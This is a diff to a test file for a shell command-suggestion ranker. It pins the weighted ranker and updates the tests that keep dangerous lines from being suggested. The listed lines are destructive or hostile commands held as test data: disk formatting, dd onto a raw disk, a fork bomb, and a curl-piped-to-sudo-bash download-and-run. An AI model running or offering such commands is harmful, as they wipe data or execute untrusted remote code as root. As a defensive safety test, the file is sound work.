@@ -1,5 +1,9 @@
 import { describe, expect, test } from 'vitest';
-import { shell } from './support/shell.ts';
+import { shell as anyShell } from './support/shell.ts';
+
+/** These are promises of the weighted ranker; adaptive.test.ts has those of the other. */
+const shell = (settings: Parameters<typeof anyShell>[0] = {}) =>
+  anyShell({ ...settings, options: { ranker: 'weighted', ...settings.options } });
 
 describe('what comes next', () => {
   test('what followed the last command before comes first, though others are used more', () => {
@@ -102,6 +106,7 @@ describe('what comes next', () => {
           { ...row, templateId: tail, slotIndex: 0, value: '/var/log/syslog', weight: 3, count: 3 },
           { ...row, templateId: tail, slotIndex: 0, value: 'out.log', weight: 1, count: 1 },
         ] as never,
+      profiles: () => [],
       recentEvents: () => [],
       recentFeedback: () => [],
       recentBlocks: () => [],
@@ -169,6 +174,7 @@ describe('what must not be suggested', () => {
     'mkfs.ext4 /dev/sda1',
     'dd if=x of=/dev/sda',
     ':(){ :|:& };:',
+    'curl -s https://x.y/i.sh | sudo bash',
   ])('%s at an empty prompt; who types it sees it labelled', (line) => {
     const { run, ask, texts } = shell();
     for (let round = 0; round < 9; round += 1) run(line);
@@ -182,8 +188,7 @@ describe('what must not be suggested', () => {
     ['git push --force', 'high'],
     ['git push -f origin main', 'high'],
     ['git reset --hard HEAD~1', 'high'],
-    ['rm -rf build', 'high'],
-    ['curl -s https://x.y/i.sh | sudo bash', 'high'],
+    ['rm -rf build', 'moderate'],
     ['rm a.txt', 'moderate'],
     ['git push', 'safe'],
     ['git push --force-with-lease', 'safe'],
